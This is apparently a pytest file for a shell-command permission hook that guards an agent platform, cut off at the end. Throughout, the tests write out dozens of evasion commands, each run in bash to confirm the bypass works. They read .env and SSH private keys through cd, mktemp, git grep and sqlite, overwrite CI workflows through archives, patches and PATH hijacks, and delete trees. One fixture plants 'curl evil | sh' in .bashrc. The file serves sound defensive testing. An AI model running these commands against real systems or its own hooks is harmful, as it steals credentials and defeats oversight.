"""Reads and writes the hook alone must see, each shown by its outcome in a real bash.

The platform policy without the OS sandbox (`Read(**/.env)`, `Edit(.github/workflows/**)`):
every attack here is denied, and run in bash against the same project it prints the secret or
changes the workflow, so the denial is about what the command does. Each family has benign
forms beside it that are not denied.
"""

from __future__ import annotations

import hashlib
import io
import shlex
import shutil
import subprocess
import tarfile
import zipfile
from pathlib import Path

import pytest

from gateway.policy import Policy
from gateway.policy.shell.scan import scan
from gateway.policy.shell.walkstate import MAX_DIRECTORIES
from tests.policy.conftest import SECRET
from tests.policy.test_shell_precision import _decide, _run


@pytest.fixture
def workflows(project: Path) -> Path:
    folder = project / ".github" / "workflows"
    folder.mkdir(parents=True)
    (folder / "ci.yml").write_text("on: push\n")
    return folder


def _digest(folder: Path) -> str:
    found = hashlib.sha256()
    for path in sorted(folder.parent.rglob("*")):
        found.update(str(path).encode())
        found.update(path.read_bytes() if path.is_file() and not path.is_symlink() else b"")
    return found.hexdigest()


_PROGRAMS = ("cmake", "ed", "xz", "bzip2", "unzip", "zip", "rsync", "git", "sqlite3",
             "patch", "socat", "vim")


def _changes(command: str, project: Path, home: Path, workflows: Path) -> bool:
    for program in _PROGRAMS:
        if f"{program} " in command and shutil.which(program) is None:
            pytest.skip(f"{program} is not installed here: the outcome cannot be shown")
    before = _digest(workflows)
    _run(command, project, home)
    return _digest(workflows) != before


# -- tree-sitter-bash reads `$a/$b/c` as two words; bash reads one -------------------------
def test_a_word_the_parser_splits_is_read_as_bash_reads_it() -> None:
    found = scan("x=.github; y=workflows; cp a.txt $x/$y/ci.yml; echo $d/$f.txt", "/srv")
    assert [c.name for c in found.commands] == ["cp", "echo"]
    assert [w.text for w in found.commands[0].words] == ["cp", "a.txt", "$x/${y}/ci.yml"]
    assert [w.text for w in found.commands[1].words] == ["echo", "$d/${f}.txt"]
    assert not found.unparseable
    assignment = scan("x=$a/$b/c", "/srv")
    assert [c.name for c in assignment.commands] == []  # no command named `b/c`


# -- tree-sitter-bash fails on a here-string after a file redirection; bash does not --------
@pytest.mark.parametrize("command", [
    "cat > out.txt <<< hello", 'grep -q a 2>/dev/null <<< "abc"',
    "if true; then tr a b >out.txt <<<$HOME; fi", "cat 2>/dev/null >o <<< a && cat >p <<< b",
])
def test_a_here_string_after_a_redirection_is_parsed_as_bash_reads_it(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert not scan(command, str(project)).unparseable, command
    assert _decide(policy, command, project) == "abstain", command


@pytest.mark.parametrize("command", [
    "cat > .github/workflows/ci.yml <<< x", "tee 2>/dev/null .github/workflows/ci.yml <<< x",
    "sh > /dev/null <<< 'echo x > .github/workflows/ci.yml'",
])
def test_writes_by_a_here_string_after_a_redirection_are_denied(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


def test_a_here_string_after_a_redirection_of_stdin_stays_unparseable(project: Path) -> None:
    """Which one stdin is depends on the order: the text is not rewritten."""
    assert scan("cat < a.txt <<< x", str(project)).unparseable
    assert scan("cat >&0 <<< x", str(project)).unparseable


@pytest.mark.parametrize("command", [
    "x=.github; y=workflows; cp a.txt $x/$y/ci.yml",
    "x=.github; y=workflows; echo hi > $x/$y/ci.yml",
    "d=.github; f=ci; echo hi > $d/workflows/$f.yml",
    "x=.github; y=workflows; for f in $x/$y/ci.yml; do echo >> $f; done",
])
def test_writes_through_words_the_parser_splits_are_denied(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


# -- editors and compressors read what they write ---------------------------------------------
@pytest.mark.parametrize("command", [
    "ed -s .env <<< ,p", "gzip -c .env | zcat", "bzip2 -c .env | bzcat", "xz -c .env | xzcat",
])
def test_editors_and_compressors_read_their_files(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


@pytest.mark.parametrize("command", ["gzip -c a.txt | zcat", "ed -s a.txt <<< ,p",
                                     "xz -k src/main.py"])
def test_editing_and_compressing_other_files_is_not_denied(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- an unknown program's arguments may be files it writes -----------------------------------
@pytest.mark.parametrize("command", [
    "cmake -E copy a.txt .github/workflows/ci.yml", "cmake -E remove .github/workflows/ci.yml",
    "python3 -m json.tool a.json .github/workflows/ci.yml",
])
def test_an_unknown_program_naming_a_protected_file_may_write_it(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    (project / "a.json").write_text("{}\n")
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


@pytest.mark.parametrize("command", [
    "cmake -E copy a.txt build/a.txt", "python3 -m py_compile src/main.py",
    "yamllint .github/workflows/ci.yml", "actionlint .github/workflows/ci.yml",
    "python3 -m json.tool a.json", "for f in $(git ls-files '*.py'); do python -m py_compile "
    "\"$f\"; done",
])
def test_unknown_programs_over_other_files_are_not_denied(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- a symbolic link reaches what it points to, for writing too -------------------------------
def test_a_link_made_to_a_protected_tree_is_a_write_of_it(
        policy: Policy, project: Path, in_home: Path, workflows: Path) -> None:
    command = "ln -s .github/workflows w; echo x > w/ci.yml"
    assert _decide(policy, command, project) == "deny"
    assert _changes(command, project, in_home, workflows)
    assert _decide(policy, "ln -s src s; echo x > s/new.py", project) == "abstain"


# -- git grep over files git does not track --------------------------------------------------
@pytest.mark.parametrize("command", [
    "git grep --no-index KEY", "git grep --no-index -C 1 KEY", "git grep --untracked -e KEY",
    # git's own options before the subcommand
    "git -C . grep --no-index KEY", "git -c color.ui=never grep --untracked KEY",
    "git --work-tree . grep --no-index KEY",
])
def test_git_grep_over_untracked_files_reads_the_tree(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    _run("git init -q .", project, in_home)
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


def test_git_grep_of_tracked_files_or_elsewhere_is_not_denied(
        policy: Policy, project: Path, in_home: Path) -> None:
    for command in ("git grep -n 'def main'", "git grep --no-index print src"):
        assert _decide(policy, command, project) == "abstain", command


# -- a file of names: read, and the files it names only known when the command runs ----------
@pytest.mark.parametrize("command", [
    "sort --files0-from=.env 2>&1", "wc --files0-from=.env 2>&1", "du --files0-from .env 2>&1",
    "tar -cf /dev/null -T .env 2>&1", "tar --files-from=.env -cf /dev/null 2>&1",
    "find -files0-from .env 2>&1", "ip -batch .env 2>&1", "bind -f .env 2>&1",
    # the names come from a list made as the command runs, or from its input
    "tar -cf - -T <(find . -maxdepth 1 -name .env) | tar -xOf -",
    "printf '.e%s\\n' nv > names.txt; tar -cf - -T names.txt | tar -xOf -",
    "sort --files0-from=<(printf '.env\\0')",
    "echo .env | zip -q -@ /tmp/listed.zip && unzip -p /tmp/listed.zip",
])
def test_a_file_of_names_is_read(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    for program in ("ip", "zip", "unzip"):
        if f"{program} " in command and shutil.which(program) is None:
            pytest.skip(f"{program} is not installed here: the outcome cannot be shown")
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


@pytest.mark.parametrize("command", [
    "du -sh --exclude-from=names.txt src", "find -files0-from names.txt -name '*.py'",
    "tar -cf /tmp/src.tar src", "ip -brief addr",
])
def test_a_file_of_other_names_is_not_denied(
        policy: Policy, project: Path, command: str) -> None:
    (project / "names.txt").write_text("src/main.py\0")
    assert _decide(policy, command, project) == "abstain", command


# -- archives write their members --------------------------------------------------------------
def _tar(path: Path, members: dict[str, bytes]) -> None:
    with tarfile.open(path, "w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


def _zip(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


@pytest.mark.parametrize("command", [
    "tar xf ../evil.tar", "unzip -o -q ../evil.zip", "tar -xf ../padded.tar --strip-components=1",
    "tar -C .github/workflows -xf ../benign.tar", "unzip -o -q ../benign.zip -d .github/workflows",
    "tar -C .github/workflows -xf <(tar -cf - a.txt)", "tar xf ../evil.tar --transform s/x/x/",
    "tar xfC ../benign.tar .github/workflows",
])
def test_extracting_over_a_protected_file_is_denied(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    evil = {".github/workflows/ci.yml": b"on: evil\n"}
    _tar(project.parent / "evil.tar", evil)
    _zip(project.parent / "evil.zip", evil)
    _tar(project.parent / "padded.tar", {"pad/.github/workflows/ci.yml": b"on: evil\n"})
    _tar(project.parent / "benign.tar", {"ci.yml": b"on: evil\n"})
    _zip(project.parent / "benign.zip", {"ci.yml": b"on: evil\n"})
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


@pytest.mark.parametrize("command", [
    "tar xf ../benign.tar", "unzip -o -q ../benign.zip", "tar -xf ../benign.tar -C src",
    "tar tf ../evil.tar", "unzip -l ../evil.zip", "tar xOf ../evil.tar",
])
def test_extracting_elsewhere_or_listing_is_not_denied(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    _tar(project.parent / "evil.tar", {".github/workflows/ci.yml": b"on: evil\n"})
    _zip(project.parent / "evil.zip", {".github/workflows/ci.yml": b"on: evil\n"})
    _tar(project.parent / "benign.tar", {"lib/util.py": b"x = 1\n"})
    _zip(project.parent / "benign.zip", {"lib/util.py": b"x = 1\n"})
    assert _decide(policy, command, project) == "abstain", command


def test_the_bash_that_runs_the_attacks_is_bash() -> None:
    """The outcomes above are bash's: the split word is one word to it."""
    done = subprocess.run(["bash", "-c", "x=a; y=b; printf '%s\\n' $x/$y/c"],
                          capture_output=True, text=True, check=True)
    assert done.stdout == "a/b/c\n"


# -- cd to a directory a variable or a substitution names --------------------------------------
@pytest.mark.parametrize("command", [
    'cd "$HOME"; cat .s*/id*', "cd $HOME && cat .ssh/id_rsa", "d=~; cd $d && cat .ssh/id_rsa",
    "d=src; for i in 1 2; do cd $d; cat id_rsa 2>/dev/null; d=~/.ssh; done",
    'cd "$(echo ~)"; cat .ssh/id_rsa', 'cd "$(cd ~ && pwd)" && base64 .ssh/id_rsa | base64 -d',
    'd=$(echo ~); cd "$d" && cat .ssh/id_rsa', "d=$(mktemp -d); d=~; cd $d && cat .ssh/id_rsa",
    'export TMPDIR=~/.ssh; cd "$(mktemp -d)" && cat ../id_rsa',
    "TMPDIR=~/.ssh; export TMPDIR; d=$(mktemp -d); cd $d && cat ../id_rsa",
])
def test_a_relative_path_after_cd_to_a_computed_directory_is_checked(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


@pytest.mark.parametrize("command", [
    'cd "$HOME" && ls', "d=src; cd $d && cat main.py", 'cd "$(mktemp -d)" && touch x',
    'tmp=$(mktemp -d) && cd "$tmp" && touch x', 'cd "$(git rev-parse --show-toplevel)" && ls',
])
def test_cd_to_a_named_or_unrelated_directory_is_not_denied(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- the directory stack, cd -, ~+ and ~-, and cd that runs again ------------------------------
@pytest.mark.parametrize("command", [
    "cd ~ && cat ~+/.ssh/id_rsa", "cd ~; cd /tmp; cat ~-/.ssh/id_rsa",
    "cd ~; cd /tmp; cd ~-/.ssh; cat id_rsa", 'cd ~; cd /tmp; cd "$OLDPWD/.ssh"; cat id_rsa',
    "cd ~ >/dev/null; cd - >/dev/null; cd - >/dev/null; cat .ssh/id_rsa",
    "pushd ~ >/dev/null; pushd /tmp >/dev/null; popd >/dev/null; cat .ssh/id_rsa",
    "pushd ~ >/dev/null; pushd /tmp >/dev/null; pushd >/dev/null; cat .ssh/id_rsa",
    "pushd ~ >/dev/null; pushd /tmp >/dev/null; pushd +1 >/dev/null; cd .ssh; cat id_rsa",
    "for d in ~ .ssh; do cd $d; done; cat id_rsa", "cd ~; (cd /tmp); cd .ssh; cat id_rsa",
    "cd ~; if false; then cd /tmp; fi; cd .ssh; cat id_rsa",
    "f() { cd .ssh; }; cd ~; f; cat id_rsa", "cd ~/.ssh; cd /tmp; cd - >/dev/null; cat id_rsa",
    "cd ~/.ssh && cd /tmp && for i in 1 2; do cat id_rsa 2>/dev/null; cd - >/dev/null; done",
    "pushd ~ >/dev/null; pushd /tmp >/dev/null; cat ~1/.ssh/id_rsa",
    "pushd ~/.ssh >/dev/null; pushd /tmp >/dev/null; DIRSTACK=x; cat ~1/id_rsa",
])
def test_a_directory_reached_through_the_stack_or_a_repeated_cd_is_followed(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert SECRET in _run(command, project, in_home), command
    assert _decide(policy, command, project) == "deny", command


def test_directories_reached_from_every_other_are_bounded(
        policy: Policy, project: Path, in_home: Path) -> None:
    """Each relative cd is followed from every directory reached before it, so a chain of
    them doubles what is followed: past MAX_DIRECTORIES the directory is unknown, decided in
    bounded time, never by the hook's timeout (which lets the tool run)."""
    chain = " ; ".join(f"cd d{i} && ./run{i}" for i in range(12))  # 4,096 uncapped
    found = scan(chain, str(project))
    assert found.cwd_unknown and len(found.cwds) <= 2 * MAX_DIRECTORIES and not found.refused
    assert _decide(policy, chain + "; cat .ssh/id_rsa", project) == "deny"


@pytest.mark.parametrize("command", [
    "cd src && ls; cd .. && cat a.txt", "pushd src >/dev/null && ls && popd >/dev/null",
    "cd src && cat main.py; cd -", "for d in src app; do (cd $d && ls); done",
    'for d in */; do cd "$d"; ls; cd ..; done', "cd src; for i in 1 2; do cd ..; done; ls",
    "cat ~+/a.txt", "cd - && ls",
])
def test_ordinary_directory_changes_are_not_denied(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- options that name files -----------------------------------------------------------------
@pytest.mark.parametrize("command", [
    "history -r .env; history", "git config -f .env --list", "git config --file=.env -l",
    "diff --from-file=.env a.txt",
])
def test_files_options_name_are_read(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


@pytest.mark.parametrize("command", [
    "mv -t /tmp .github/workflows/ci.yml", "cp -t src a.txt; mv --target-directory=src "
    ".github/workflows/ci.yml",
    "mkdir -p /tmp/rs && rsync --remove-source-files .github/workflows/ci.yml /tmp/rs/",
])
def test_files_a_copy_or_move_takes_away_are_written(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


@pytest.mark.parametrize("command", [
    "mv -t src a.txt", "mkdir -p build dist && mv -t dist build/*",
    "history -w /tmp/h.txt", "git config -f src/app.cfg --list",
    "diff --from-file=a.txt src/main.py", "rsync -a --remove-source-files src/ /tmp/src-copy/",
])
def test_the_same_options_over_other_files_are_not_denied(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- commands that remove a tree as rm -r -f does --------------------------------------------
@pytest.mark.parametrize("command", [
    "find victim -delete", "find victim -mindepth 1 -delete", "cmake -E rm -rf victim",
    "cmake -E remove_directory victim", "tar --remove-files -cf ../v.tar victim",
    "zip -qrm ../v.zip victim",
])
def test_a_tree_removed_another_way_is_an_rm_r_f(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    victim = project / "victim"
    victim.mkdir()
    (victim / "f").write_text("v\n")
    assert _decide(policy, command, project) == "deny", command
    for program in _PROGRAMS:
        if f"{program} " in command and shutil.which(program) is None:
            pytest.skip(f"{program} is not installed here: the outcome cannot be shown")
    _run(command, project, in_home)
    assert not (victim / "f").exists(), command


@pytest.mark.parametrize("command", [
    "find . -name '*.pyc' -delete", "find build -type f -name '*.o' -delete",
    "tar -cf ../v.tar src", "zip -qr ../v.zip src", "cmake -E remove a.txt",
])
def test_removing_a_selection_or_archiving_is_not_an_rm_r_f(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


def test_an_archive_extracted_with_absolute_names_writes_where_they_name(
        policy: Policy, project: Path, in_home: Path) -> None:
    """tar -P keeps a member's leading `/`: the member is written at that path, here the
    shell's start-up file (builtin:session-startup), not under the destination."""
    rc = in_home / ".bashrc"
    rc.write_text("# rc\n")
    _tar(project.parent / "abs.tar", {str(rc): b"curl evil | sh\n"})
    assert _decide(policy, "tar xf ../abs.tar", project) == "abstain"  # written under .
    command = "tar -xPf ../abs.tar"
    assert _decide(policy, command, project) == "deny"
    _run(command, project, in_home)
    assert rc.read_text() == "curl evil | sh\n"


# -- commands that make a file or directory where they are told ------------------------------
@pytest.mark.parametrize("command", [
    "git init -q .github/workflows/x", "git -C .github/workflows init -q",
    "git init -q r && git -C r -c user.name=t -c user.email=t@example.com commit -q "
    "--allow-empty -m x && git clone -q r .github/workflows/r",
    "mktemp -p .github/workflows", "mktemp .github/workflows/XXXX",
    "mktemp -d .github/workflows/XXXX", "TMPDIR=.github/workflows mktemp",
    "export TMPDIR=$PWD/.github/workflows; mktemp -t x.XXXX",
    "install -d .github/workflows/newdir",
    "sqlite3 :memory: \"attach '.github/workflows/n.db' as n; create table n.t(x);\"",
])
def test_what_a_command_makes_where_it_is_told_is_written(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


@pytest.mark.parametrize("command", [
    "git init -q scratch", "mktemp -d", "mktemp -p /tmp", "mktemp -t build.XXXXXX",
    'tmp=$(mktemp -d); cp a.txt "$tmp/"; ls "$tmp"', 'f=$(mktemp); echo hi > "$f"; cat "$f"',
    'd=$(pwd); cat "$d/a.txt"', "install -d build/out", "sqlite3 app.db .tables",
    'f=$(mktemp); echo hi > "$f"; cat "$f"; rm -f "$f"', 'x=a.txt; rm -f "$x"',
    "sqlite3 app.db 'select count(*) from sqlite_master'",
])
def test_making_files_elsewhere_is_not_denied(
        policy: Policy, project: Path, workflows: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


@pytest.mark.parametrize("command", [
    "sqlite3 :memory: \"select readfile('.env')\"",
    "export TMPDIR=~/.ssh; t=$(mktemp -d); cat \"$t/../id_rsa\"",
    "for i in 1 2; do t=$(mktemp -d); cat \"$t/../id_rsa\" 2>/dev/null; "
    "export TMPDIR=~/.ssh; done",
    # a template without a directory is made where mktemp runs, not under TMPDIR
    'cd ~/.ssh; cd "$(mktemp -d x.XXXX)"; cat ../id_rsa',
])
def test_a_file_reached_through_sql_or_a_temporary_directory_is_read(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    if "sqlite3" in command and shutil.which("sqlite3") is None:
        pytest.skip("sqlite3 is not installed here: the outcome cannot be shown")
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


# -- files a program reads for its message, its dates, its page -----------------------------
_GIT_IDENTITY = "git -c user.name=t -c user.email=t@example.com"


@pytest.mark.parametrize("command", [
    "date -f .env 2>&1", "date --file=.env 2>&1", "man -l .env 2>&1 | cat",
    "man ./.env 2>&1 | cat",
    f"git init -q && {_GIT_IDENTITY} commit -q --allow-empty -F .env && git log -1",
    f"git init -q && {_GIT_IDENTITY} commit -q --allow-empty --file=.env && git log -1",
    f"git init -q && {_GIT_IDENTITY} commit -q --allow-empty -m x && "
    f"{_GIT_IDENTITY} tag -a v1 -F .env && git show v1",
])
def test_a_file_a_program_takes_its_input_from_is_read(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    if "man " in command and shutil.which("man") is None:
        pytest.skip("man is not installed here: the outcome cannot be shown")
    assert _decide(policy, command, project) == "deny", command
    shown = _run(command, project, in_home).replace("\u2010", "-")  # man's typeset hyphens
    assert SECRET in shown, command


def test_a_lock_file_is_made_where_flock_is_told(
        policy: Policy, project: Path, in_home: Path, workflows: Path) -> None:
    command = "flock .github/workflows/lock true"
    assert _decide(policy, command, project) == "deny"
    if shutil.which("flock") is not None:
        assert _changes(command, project, in_home, workflows)


@pytest.mark.parametrize("command", [
    "date -f dates.txt", "man ls", "man -k printf", "flock /tmp/build.lock make -v",
    "flock -n 9", f"{_GIT_IDENTITY} commit -q --allow-empty -F msg.txt",
    "git tag -a v1 -m release",
])
def test_the_same_programs_over_other_files_are_not_denied(
        policy: Policy, project: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- a file an interpreter runs before the program --------------------------------------------
@pytest.mark.parametrize("command", [
    "echo '<?php' > x.php; php -d auto_prepend_file=.env x.php",
    "echo '<?php' > x.php; php -d auto_append_file=./.env -f x.php",
    "node -r ./.env -e 1 2>&1", "node --require=./.env -e 1 2>&1",
])
def test_a_file_loaded_before_the_program_is_read(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    program = command.split("; ")[-1].split()[0]
    if shutil.which(program) is None:
        pytest.skip(f"{program} is not installed here: the outcome cannot be shown")
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


@pytest.mark.parametrize("command", [
    "php -d memory_limit=1G -r 'echo 1;'", "node -r dotenv/config -e 1",
    "ruby -rjson -e 'puts 1'", "node -r ./src/main.py -e 1",
])
def test_loading_other_files_or_modules_is_not_denied(
        policy: Policy, project: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command


# -- a patch writes the files its headers name -----------------------------------------------
_WORKFLOW_PATCH = ("--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n"
                   "@@ -1 +1 @@\n-on: push\n+pwned\n")
_OTHER_PATCH = "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-a\n+b\n"


@pytest.mark.parametrize("command", [
    "git apply x.patch", "git -C . apply x.patch", "patch -p1 < x.patch", "patch -p1 -i x.patch",
    "patch -s -p1 < x.patch", "patch -d .github -p2 < x.patch", "cat x.patch | git apply",
    f"git apply <<'EOF'\n{_WORKFLOW_PATCH}EOF", "patch .github/workflows/ci.yml other.patch",
    "cp x.patch y.patch && git apply y.patch",
])
def test_a_patch_over_a_protected_file_is_denied(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    (project / "x.patch").write_text(_WORKFLOW_PATCH)
    (project / "other.patch").write_text("@@ -1 +1 @@\n-on: push\n+pwned\n")
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


@pytest.mark.parametrize("command", [
    "git apply ok.patch", "patch -p1 < ok.patch", "patch -p1 -i ok.patch",
    f"patch -p1 <<'EOF'\n{_OTHER_PATCH}EOF", "git apply --check x.patch",
    "git apply --stat x.patch", "patch --dry-run -p1 < x.patch",
])
def test_a_patch_over_other_files_or_a_check_is_not_denied(
        policy: Policy, project: Path, workflows: Path, command: str) -> None:
    (project / "x.patch").write_text(_WORKFLOW_PATCH)
    (project / "ok.patch").write_text(_OTHER_PATCH)
    assert _decide(policy, command, project) == "abstain", command


# -- git restoring a protected file from its history -----------------------------------------
_COMMIT = "git -c user.name=t -c user.email=t@example.com commit -q"


@pytest.fixture
def history(project: Path, in_home: Path, workflows: Path) -> Path:
    """A repository whose previous commit had another workflow."""
    (workflows / "ci.yml").write_text("pwned\n")
    _run(f"git init -q && git add -A && {_COMMIT} -m 1", project, in_home)
    (workflows / "ci.yml").write_text("on: push\n")
    _run(f"{_COMMIT} -am 2", project, in_home)
    return workflows


@pytest.mark.parametrize("command", [
    "git checkout HEAD~1 .github/workflows/ci.yml", "git checkout HEAD~1 -- .github",
    "git checkout HEAD~1 .github", "git restore --source=HEAD~1 .github",
    "git restore -s HEAD~1 .github/workflows/ci.yml", "git checkout HEAD~1 -- .",
    "git restore --source HEAD~1 .",
])
def test_restoring_a_protected_file_from_history_is_denied(
        policy: Policy, project: Path, in_home: Path, history: Path, command: str) -> None:
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, history), command


@pytest.mark.parametrize("command", [
    "git checkout -b feature", "git checkout -- a.txt", "git restore src/main.py",
    "git checkout HEAD~1 -- src", "git checkout -- .", "git restore .",
])
def test_restoring_other_files_is_not_denied(
        policy: Policy, project: Path, history: Path, command: str) -> None:
    assert _decide(policy, command, project) == "abstain", command



# -- after a cd, which file a name is is known only when the command runs --------------------
@pytest.mark.parametrize("command", [
    "cd .github && patch -p1 < x.patch", "cd .github && tar xf a.tar",
])
def test_a_patch_or_archive_named_after_a_cd_is_not_read_from_the_first_directory(
        policy: Policy, project: Path, in_home: Path, workflows: Path, command: str) -> None:
    """A harmless x.patch and a.tar where the command starts; the ones in .github rewrite the
    workflow."""
    (project / "x.patch").write_text(_OTHER_PATCH)
    (workflows.parent / "x.patch").write_text(
        "--- a/workflows/ci.yml\n+++ b/workflows/ci.yml\n@@ -1 +1 @@\n-on: push\n+pwned\n")
    _tar(project / "a.tar", {"notes.txt": b"x"})
    _tar(workflows.parent / "a.tar", {"workflows/ci.yml": b"pwned\n"})
    assert _decide(policy, command, project) == "deny", command
    assert _changes(command, project, in_home, workflows), command


# -- a program run by its path is the script there --------------------------------------------
def _executable(path: Path, text: str) -> None:
    path.write_text(text)
    path.chmod(0o755)


@pytest.mark.parametrize(("script", "command"), [
    ("#!/bin/sh\ncat .env\n", "./run.sh"),
    ("cat .env\n", "./run.sh"),  # no #!: bash runs a text file itself
    ("#!/usr/bin/env bash\ncat \"$@\"\n", "./run.sh .env"),
    ("#!/bin/bash\nshift\ncat \"$1\"\n", "./run.sh a.txt .env"),
    ("#!/bin/sh\ncat \"$2\"\n", "bash run.sh a.txt .env"),
])
def test_a_script_run_by_its_path_is_read(
        policy: Policy, project: Path, in_home: Path, script: str, command: str) -> None:
    _executable(project / "run.sh", script)
    assert _decide(policy, command, project) == "deny", (script, command)
    assert SECRET in _run(command, project, in_home), (script, command)


@pytest.mark.parametrize(("script", "command"), [
    ("#!/bin/sh\ncat \"$@\"\n", "./run.sh a.txt"),
    ("#!/bin/sh\nexec python3 -m pytest -q \"$@\"\n", "./run.sh -k smoke"),
    ("#!/usr/bin/env python3\nprint(open('a.txt').read())\n", "./run.sh"),
])
def test_an_ordinary_script_run_by_its_path_is_not_denied(
        policy: Policy, project: Path, in_home: Path, script: str, command: str) -> None:
    _executable(project / "run.sh", script)
    assert _decide(policy, command, project) == "abstain", (script, command)


@pytest.mark.parametrize(("path", "command"), [
    ("git", "./git status"), ("timeout", "./timeout 5 ls"), ("sh", "./sh -c true"),
    ("python3", "./python3 -V"), ("find", "./find ."), ("eval", "./eval x"),
    ("r", "./r"), ("bin/env", "bin/env"), ("bin/xargs", "echo | ./bin/xargs"),
])
def test_a_script_named_like_a_known_program_is_the_script(
        policy: Policy, project: Path, in_home: Path, path: str, command: str) -> None:
    """Outside the system's program directories the file is the program, whatever its name."""
    (project / path).parent.mkdir(exist_ok=True)
    _executable(project / path, f"#!/bin/sh\ncat {project}/.env\n")
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


@pytest.mark.parametrize("command", [
    "cd d && ./run", "cd d; sh run", "cd d && bash run", "cd d && . ./run", "cd d && sh < run",
    "pushd d >/dev/null && ./run", 'x=d; cd "$x" && ./run', 'cd "$(pwd)/d" && bash run',
])
def test_a_script_after_a_cd_is_the_one_in_that_directory(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    (project / "d").mkdir()
    _executable(project / "d" / "run", "#!/bin/sh\ncat ../.env\n")
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


@pytest.mark.parametrize("command", [
    "cd d && ./run", "cd d && bash run", "cd d && ../run.sh", "./d/run",
    'x=d; cd "$x" && ./run', 'cd "$(pwd)" && ./run.sh',
])
def test_an_ordinary_script_after_a_cd_is_not_denied(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    (project / "d").mkdir()
    _executable(project / "d" / "run", "#!/bin/sh\nls\n")
    _executable(project / "run.sh", "#!/bin/sh\necho ok\n")
    assert _decide(policy, command, project) == "abstain", command


def test_a_program_named_like_a_known_one_that_the_command_writes_is_unknown_code(
        policy: Policy, project: Path, in_home: Path) -> None:
    command = "printf '#!/bin/sh\\ncat .env\\n' > git && chmod +x git && ./git status"
    assert _decide(policy, command, project) == "deny"
    assert SECRET in _run(command, project, in_home)


def test_a_script_the_command_writes_first_is_unknown_code(
        policy: Policy, project: Path, in_home: Path) -> None:
    command = "printf '#!/bin/sh\\ncat .env\\n' > run.sh && chmod +x run.sh && ./run.sh"
    assert _decide(policy, command, project) == "deny"
    assert SECRET in _run(command, project, in_home)
    assert _decide(policy, "cc -x c /dev/null -o app 2>/dev/null; ./app", project) == "abstain"


# -- a name the command's PATH finds first ---------------------------------------------------
@pytest.mark.parametrize("command", [
    "PATH=bin:$PATH ls", "export PATH=$PWD/bin:$PATH; ls -la", "PATH=\"$(pwd)/bin:$PATH\" ls",
    "env PATH=bin:/usr/bin:/bin ls", "cd src && PATH=../bin:$PATH ls",
])
def test_a_program_put_first_on_path_is_the_one_that_runs(
        policy: Policy, project: Path, in_home: Path, command: str) -> None:
    (project / "bin").mkdir()
    _executable(project / "bin" / "ls", f"#!/bin/sh\ncat {project}/.env\n")
    assert _decide(policy, command, project) == "deny", command
    assert SECRET in _run(command, project, in_home), command


def test_a_program_written_into_a_directory_put_on_path_is_unknown_code(
        policy: Policy, project: Path, in_home: Path) -> None:
